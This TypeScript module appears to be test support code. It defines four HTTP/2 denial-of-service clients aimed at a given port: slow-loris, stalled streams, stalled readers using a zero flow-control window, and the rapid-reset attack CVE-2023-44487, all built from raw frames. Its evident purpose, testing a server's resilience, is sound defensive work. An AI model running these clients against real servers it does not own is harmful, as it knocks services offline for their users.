/** Clients that want to keep others out, with little work of their own. */
import { setTimeout as sleep } from 'node:timers/promises';
import {
  connectionStart,
  FrameType,
  getCall,
  headerBlock,
  headersFrames,
  http2Frame,
  openConnection,
  type RawConnection,
} from '../support/http2-frames.ts';

export interface Hostile {
  readonly name: string;
  /** Starts it; it goes on until it is told to stop. */
  start(port: number): HostileRun;
}

export interface HostileRun {
  /** How much of it there was so far: connections, calls, resets. */
  readonly count: () => number;
  readonly stop: () => Promise<void>;
}

/** Runs one round after another, with a pause between, until it is stopped. */
function repeat(pauseMs: number, round: (connections: Set<RawConnection>) => Promise<number>): HostileRun {
  const connections = new Set<RawConnection>();
  const stopped = new AbortController();
  let count = 0;
  const done = (async () => {
    while (!stopped.signal.aborted) {
      // A server that refuses is what the others hope for.
      count += await round(connections).catch(() => 0);
      await sleep(pauseMs);
    }
    for (const { socket } of connections) socket.destroy();
  })();
  return {
    count: () => count,
    stop: async () => {
      stopped.abort();
      await done;
    },
  };
}

async function open(
  port: number,
  connections: Set<RawConnection>,
  first = connectionStart as Buffer,
): Promise<RawConnection> {
  const connection = await openConnection(port, first);
  connections.add(connection);
  void connection.closed.then(() => connections.delete(connection));
  return connection;
}

/** Up to 2,000 connections that say a byte now and then, and never finish a sentence. */
const slowLoris: Hostile = {
  name: 'slow-loris',
  start: (port) => {
    const headers = headersFrames(1, headerBlock({ 'x-slow': 'a'.repeat(1000) }));
    return repeat(20, async (connections) => {
      for (const { socket, sent } of [...connections].map((one) => ({
        ...one,
        sent: one.socket.bytesWritten,
      })))
        socket.write(headers.subarray(sent % headers.length, (sent % headers.length) + 1));
      let opened = 0;
      for (; opened < 20 && connections.size < 2000; opened++)
        await open(port, connections, connectionStart.subarray(0, connectionStart.length - 1));
      return opened;
    });
  },
};

/** Keeps so many connections that begin in some way, each for a second. */
function hold(port: number, connections: number, first: Buffer): HostileRun {
  const perRound = connections / 10;
  return repeat(100, async (held) => {
    const [...oldest] = held;
    for (const { socket } of oldest.slice(0, Math.max(0, held.size + perRound - connections)))
      socket.destroy();
    for (let opened = 0; opened < perRound; opened++) await open(port, held, first);
    return perRound;
  });
}

const callsPerConnection = 100;

function calls(one: (streamId: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: callsPerConnection }, (_, call) => one(2 * call + 1)));
}

/** Connections full of calls whose request never comes to its end: 4,000 at a time. */
const stalledStreams: Hostile = {
  name: 'stalled streams',
  start: (port) => {
    const block = headerBlock();
    return hold(
      port,
      40,
      Buffer.concat([connectionStart, calls((streamId) => headersFrames(streamId, block))]),
    );
  },
};

/** A window of nothing: the answers cannot be sent. */
const noWindow = http2Frame(FrameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));

/** Connections full of calls whose answers are never taken: 1,000 at a time. */
const stalledReaders: Hostile = {
  name: 'stalled readers',
  start: (port) =>
    hold(
      port,
      10,
      Buffer.concat([connectionStart, noWindow, calls((streamId) => getCall(streamId, 'load-job'))]),
    ),
};

/** CVE-2023-44487: calls that are taken back as soon as they are made, so that no bound on open ones holds them. */
const rapidReset: Hostile = {
  name: 'rapid reset',
  start: (port) => {
    const [block, cancel] = [headerBlock(), Buffer.from([0, 0, 0, 8])];
    const first = calls((streamId) =>
      Buffer.concat([headersFrames(streamId, block), http2Frame(FrameType.rstStream, 0, streamId, cancel)]),
    );
    return repeat(20, async (connections) => {
      const { socket } = await open(port, connections);
      socket.write(first);
      return callsPerConnection;
    });
  },
};

export const hostiles: readonly Hostile[] = [slowLoris, stalledStreams, stalledReaders, rapidReset];
